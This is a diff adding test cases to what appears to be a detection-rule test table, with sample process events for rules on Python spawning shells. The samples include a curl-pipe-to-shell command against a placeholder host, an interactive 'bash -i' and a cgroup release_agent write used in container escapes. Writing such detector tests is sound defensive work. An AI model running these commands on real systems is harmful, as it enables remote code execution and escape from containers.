@@ -123,6 +123,16 @@ CASES = {
          run("/bin/sh", "sh -c echo /cmd > /sys/fs/cgroup/x/release_agent")],
         [run("/usr/bin/nsenter", "nsenter -t 4242 -n ip addr"),
          run("/bin/mount", "mount /dev/sda1 /mnt")]),
+    "2d86f91e-b4cb-447b-9ad5-4ab3f41ab42c": (  # python spawns an interactive shell
+        [run("/bin/sh", "/bin/sh", parent_image="/usr/bin/python3", parent_cmdline="python3 x.py"),
+         run("/bin/bash", "bash -i", parent_image="/opt/conda/bin/python3.11")],
+        [run("/bin/sh", "/bin/sh -c id", parent_image="/usr/bin/python3"),
+         run("/bin/sh", "/bin/sh", parent_image="/usr/sbin/sshd")]),
+    "6c4195e4-6bf7-4ba6-9a5b-288e5af916ad": (  # python runs a shell command
+        [run("/bin/sh", "/bin/sh -c curl http://x | sh", parent_image="/usr/bin/python3")],
+        [run("/bin/sh", "/bin/sh -c uname -p 2> /dev/null", parent_image="/usr/bin/python3"),
+         run("/bin/sh", "/bin/sh -c id", parent_image="/usr/bin/perl"),
+         run("/bin/sh", "/bin/sh", parent_image="/usr/bin/python3")]),
     "4a4aea82-aa6d-4680-864f-a42147999665": (  # discovery command (feeds the burst only)
         [run("/usr/bin/whoami", "whoami"), run("/usr/bin/uname", "uname -a")],
         [run("/usr/bin/make", "make"), run("/usr/bin/identify", "identify x.png")]),
